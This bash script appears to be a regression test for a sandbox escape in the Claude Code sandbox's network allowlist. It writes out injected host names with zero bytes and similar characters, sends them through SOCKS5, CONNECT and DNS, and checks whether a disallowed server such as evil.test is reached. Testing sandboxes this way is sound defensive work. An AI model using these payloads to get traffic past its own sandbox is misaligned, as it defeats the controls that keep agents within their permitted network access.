#!/bin/bash
# SOCKS5 name with a zero byte, Claude Code 2.0.24 to 2.1.89 (no CVE): a zero byte in the host name of a SOCKS5 request; the check saw the
# allowed end of the text, the resolver the part before the byte.
# Escaped: a server that no rule allows receives the request.
# shellcheck disable=SC2317,SC2034
NEEDS="world netrules"
. "${0%/*}/../lib.sh"
prepare() { ALLOW=(ok.test '*.ok.test'); before=$(served 93.184.216.66); questions=$(asked 'evil.test$'); }
escaped() { settle; [ "$(served 93.184.216.66)" -gt "$before" ]; }
GET="GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"
tries() { local n; for n in 'evil.test\x00.ok.test' 'evil.test\x00ok.test' '93.184.216.66\x00.ok.test' 'evil.test\x0a.ok.test' 'evil.test\x20.ok.test' 'evil.test%00.ok.test'; do printf "python3 through.py %s '%s' 80 '%s';" "$1" "$n" "$GET"; done; }
attack() { naive_start; inside "$(tries socks)"; naive_stop; }
attempt "SOCKS5"
attack() { naive_start; inside "$(tries connect)"; naive_stop; }
attempt "CONNECT"
attack() { without_netfilter; naive_start; inside "$(tries socks) $(tries connect)"; naive_stop; }
case $SANDBOX in caisson) attempt "where the kernel has no nf_tables" ;; esac
attack() { client dns A "'evil.test\\x00.ok.test'"; client dns A "'x.evil.test\\x00.ok.test'"; [ "$BOX" = none ] && inside "python3 client.py dns A evil.test; python3 client.py tcp 93.184.216.66 7"; client tcp 93.184.216.66 7; }
attempt "a question to the resolver, and an address"
